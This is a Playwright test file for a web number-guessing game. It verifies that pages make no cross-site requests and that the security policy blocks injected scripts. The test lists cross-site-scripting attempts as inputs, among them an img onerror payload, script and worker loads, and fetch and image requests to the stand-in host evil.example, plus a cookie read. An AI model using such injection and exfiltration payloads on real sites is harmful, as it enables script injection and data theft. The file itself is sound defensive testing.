import type { Page } from '@playwright/test'
import { createAccount, logIn } from '../account/accounts.ts'
import { expect, test } from '../hilo.ts'

test.beforeEach(async ({ world }) => {
  await world.openGame('2026-11-28', 4, '4618')
  await world.setTime('2026-11-28T12:00:00-05:00')
})

const TEXTS = ['/api/docs', '/open-data', '/numbers', '/fairness', '/embed']
const PATHS = [
  '/',
  ...[2, 3, 5, 6, 7].map((digits) => `/digits${digits}`),
  '/login',
  '/login/complete',
  '/signup',
  '/reset-password',
  '/new-password/made-up',
  '/verify-email/made-up',
  '/privacy-policy',
  '/nowhere',
  ...TEXTS,
]
const PATHS_OF_MEMBERS = [
  '/',
  ...['statistics', 'settings', 'contact', 'logout'].map((tab) => `/profile#${tab}`),
]

test.describe('everywhere', () => {
  // PATHS includes one unknown path.
  test.use({ expectedConsoleErrors: /status of 404/ })

  // The policy refuses such a request, and the error in the console fails every test that visits the screen.
  test(
    'no screen requests anything from another site',
    { tag: '@soak' },
    async ({ context, game, page, world }) => {
      const asked: string[] = []
      context.on('request', (request) => asked.push(request.url()))
      await game.open(4)
      await game.guessAll(['1234', '4618'])
      await game.expectResult('You got it!', '4618')
      for (const path of PATHS) {
        await page.goto(path)
        await page.waitForLoadState('networkidle')
        // The security policy permits the style of the pages of text.
        if (TEXTS.includes(path)) await expect(page.locator('main')).toHaveCSS('padding', '16px')
      }
      await logIn(context, world, await createAccount(context, world))
      for (const path of PATHS_OF_MEMBERS) {
        await page.goto(path)
        await page.waitForLoadState('networkidle')
      }
      const { host } = new URL(world.url)
      expect(asked.length).toBeGreaterThan(100)
      expect(asked.filter((url) => url.startsWith('http') && new URL(url).host !== host)).toEqual([])
    },
  )
})

test.describe('an injected script', () => {
  test.use({ expectedConsoleErrors: /Content Security Policy|TrustedHTML|TrustedScript|Refused to|violates/ })

  test('can turn no text into markup, a script or a worker, send no data elsewhere, nor read the session', async ({
    game,
    page,
  }) => {
    await game.open(4)
    for (const attempt of [
      `document.body.innerHTML = '<img src=x onerror="document.title = 1">'`,
      `document.body.insertAdjacentHTML('beforeend', '<b>bold</b>')`,
      `document.write('<b>bold</b>')`,
      `document.createElement('script').text = 'document.title = 1'`,
      `document.createElement('script').src = 'https://evil.example/x.js'`,
      `document.createElement('iframe').srcdoc = '<b>bold</b>'`,
      `new Worker('https://evil.example/x.js')`,
      `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
    ]) {
      expect([attempt, await outcomeOf(page, attempt)]).toEqual([attempt, 'TypeError'])
    }
    await expect(page).toHaveTitle('Hilo - 4 Digits')
    await game.guess('1234')
    expect(await page.evaluate(() => document.cookie)).toBe('')
    expect(
      await page.evaluate(() =>
        fetch('https://evil.example/').then(
          () => 'sent',
          (error: unknown) => (error as Error).name,
        ),
      ),
    ).toBe('TypeError')
    const image = await page.evaluate(
      () =>
        new Promise((resolve) => {
          const element = new Image()
          element.addEventListener('load', () => resolve('loaded'))
          element.addEventListener('error', () => resolve('refused'))
          element.src = 'https://evil.example/x.png'
        }),
    )
    expect(image).toBe('refused')
  })
})

/** 'done', or the name of the error that the page's own code receives. */
async function outcomeOf(page: Page, code: string): Promise<string> {
  return await page.evaluate(
    `(() => { try { ${code}; return 'done' } catch (error) { return error.name } })()`,
  )
}
